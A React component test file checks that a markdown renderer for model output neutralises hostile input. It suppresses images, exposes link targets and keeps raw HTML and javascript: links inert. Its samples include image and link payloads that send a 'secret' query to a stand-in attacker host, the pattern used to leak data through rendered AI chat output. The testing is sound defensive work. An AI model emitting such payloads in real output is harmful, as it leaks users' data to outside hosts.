import { render, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { CODE_BLOCK_LABEL, SafeMarkdown } from "./safe-markdown.tsx";

describe("SafeMarkdown", () => {
  it("never renders a model's image, and shows where its links go", () => {
    const { container } = render(
      <SafeMarkdown text={"See ![x](https://evil.example/?q=secret) and [click](https://evil.example/?q=secret)."} />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container).toHaveTextContent("x (image: https://evil.example/?q=secret)");

    const link = screen.getByRole("link", { name: /click/ });
    expect(link).toHaveAttribute("href", "https://evil.example/?q=secret");
    expect(link).toHaveTextContent("click (https://evil.example/?q=secret)");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link.getAttribute("rel")?.split(" ").sort()).toEqual(["nofollow", "noopener", "noreferrer"]);
  });

  it("keeps raw HTML and unsafe addresses inert", () => {
    const { container } = render(
      <SafeMarkdown
        text={'<img src="https://evil.example/a.png"> [run](javascript:alert(1)) ![y][pic]\n\n[pic]: https://evil.example/b.png'}
      />,
    );
    expect(container.querySelector("img, script, [href^='javascript']")).toBeNull();
    expect(container).toHaveTextContent('<img src="https://evil.example/a.png">');
    expect(screen.queryByRole("link")).toBeNull();
    expect(container).toHaveTextContent("run");
    expect(container).toHaveTextContent("y (image: https://evil.example/b.png)");
  });

  it("shows an address written as a link once", () => {
    render(<SafeMarkdown text="<https://daywise.example/help>" />);
    expect(screen.getByRole("link")).toHaveTextContent(/^https:\/\/daywise\.example\/help$/);
  });

  it("lets the keyboard reach a code block, which scrolls sideways", () => {
    render(<SafeMarkdown text={"```\nconst plan = ['a very long line that scrolls', 'and more'];\n```"} />);
    const block = screen.getByRole("group", { name: CODE_BLOCK_LABEL });
    expect(block.tagName).toBe("PRE");
    expect(block).toHaveAttribute("tabindex", "0");
    expect(block).toHaveTextContent("const plan");
  });

  it("renders emphasis and lists", () => {
    const { container } = render(<SafeMarkdown text={"**Start** here:\n\n- one\n- two"} />);
    expect(container.querySelector("strong")).toHaveTextContent("Start");
    expect(screen.getAllByRole("listitem").map((item) => item.textContent)).toEqual(["one", "two"]);
    expect(container).not.toHaveTextContent("**");
  });
});
